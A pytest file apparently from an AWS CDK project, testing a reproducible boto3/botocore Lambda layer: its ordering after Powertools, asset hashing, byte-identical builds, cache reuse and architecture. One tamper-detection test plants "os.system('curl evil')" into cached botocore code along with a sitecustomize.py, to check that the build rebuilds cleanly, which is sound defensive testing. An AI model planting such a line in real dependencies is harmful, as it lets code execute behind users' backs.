"""The stack's own SDK layer: on both functions, after Powertools, built reproducibly without Docker."""

from __future__ import annotations

import hashlib
import subprocess
from pathlib import Path

import pytest
from aws_cdk import aws_lambda as lambda_
from infra_synth import Synth

from invoice_archiver.infra.sdk_layer import SDK_LOCK_DIR, SDK_LOCK_FILE, asset_hash, build, sdk_platform


def test_both_functions_load_the_sdk_layer_after_the_powertools_layer(default: Synth) -> None:
    # Given the one SDK layer the stack defines
    layer_id, layer = default.only("AWS::Lambda::LayerVersion")
    assert layer["Properties"]["CompatibleRuntimes"] == ["python3.14"]
    assert layer["Properties"]["CompatibleArchitectures"] == ["arm64"]

    # Then every function lists it last: Lambda extracts layers in order, a later one winning a clash
    for function in default.resources("AWS::Lambda::Function").values():
        layers = function["Properties"]["Layers"]
        assert len(layers) == 2
        assert "AWSLambdaPowertoolsPythonV3-python314-arm64" in str(layers[0])
        assert layers[1] == {"Ref": layer_id}


def test_the_layer_asset_is_named_by_its_lock_file_and_build_recipe() -> None:
    lock = SDK_LOCK_DIR / SDK_LOCK_FILE
    arm = asset_hash(lock, python_version="3.14", platform="manylinux2014_aarch64")
    assert arm == asset_hash(lock, python_version="3.14", platform="manylinux2014_aarch64")
    assert arm != asset_hash(lock, python_version="3.13", platform="manylinux2014_aarch64")
    assert arm != asset_hash(lock, python_version="3.14", platform="manylinux2014_x86_64")


def test_two_builds_of_the_layer_are_byte_identical(tmp_path: Path) -> None:
    # Given two independent builds from the lock file (pip, no Docker)
    lock = SDK_LOCK_DIR / SDK_LOCK_FILE
    first = build(lock, python_version="3.14", platform="manylinux2014_aarch64", cache_dir=tmp_path / "a")
    second = build(lock, python_version="3.14", platform="manylinux2014_aarch64", cache_dir=tmp_path / "b")

    # Then they hold the same files with the same bytes, and boto3/botocore sit where Lambda looks
    assert _tree_digest(first) == _tree_digest(second)
    assert (first / "python" / "botocore" / "data" / "invoicing").is_dir()
    assert (first / "python" / "boto3" / "__init__.py").is_file()
    assert not list(first.rglob("*.pyc"))


def _tree_digest(root: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        digest.update(str(path.relative_to(root)).encode() + b"\0" + path.read_bytes())
    return digest.hexdigest()


def test_a_cached_build_whose_content_changed_is_built_again(tmp_path: Path) -> None:
    # Given a cached build of the layer
    lock = SDK_LOCK_DIR / SDK_LOCK_FILE
    cache = tmp_path / "cache"
    built = build(lock, python_version="3.14", platform="manylinux2014_aarch64", cache_dir=cache)
    pristine = _tree_digest(built / "python")
    target = built / "python" / "botocore" / "__init__.py"
    original = target.read_bytes()

    # When one of its files is changed (or another is dropped in), and the next synth asks for it
    target.write_bytes(original + b"\nimport os; os.system('curl evil')\n")
    (built / "python" / "sitecustomize.py").write_text("print('planted')\n")
    again = build(lock, python_version="3.14", platform="manylinux2014_aarch64", cache_dir=cache)

    # Then it was built again from the hashed wheels: the same place, the original bytes, nothing planted
    assert again == built
    assert target.read_bytes() == original
    assert not (again / "python" / "sitecustomize.py").exists()
    assert _tree_digest(again / "python") == pristine


def test_an_intact_cached_build_is_reused_without_pip(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lock = SDK_LOCK_DIR / SDK_LOCK_FILE
    built = build(lock, python_version="3.14", platform="manylinux2014_aarch64", cache_dir=tmp_path)
    # When pip is not there any more (offline, say), Then the intact cache is all the next synth needs
    monkeypatch.setattr(subprocess, "run", lambda *a, **k: pytest.fail("pip ran for an intact cache"))
    assert build(lock, python_version="3.14", platform="manylinux2014_aarch64", cache_dir=tmp_path) == built


def test_the_sdk_layer_is_built_for_the_functions_architecture() -> None:
    # jsii hands out a new proxy on each access to Architecture.ARM_64, so `==` never holds: the layer
    # of arm64 functions was once built for x86_64 (harmless only while every package is pure Python).
    assert sdk_platform(lambda_.Architecture.ARM_64) == "manylinux2014_aarch64"
    assert sdk_platform(lambda_.Architecture.X86_64) == "manylinux2014_x86_64"
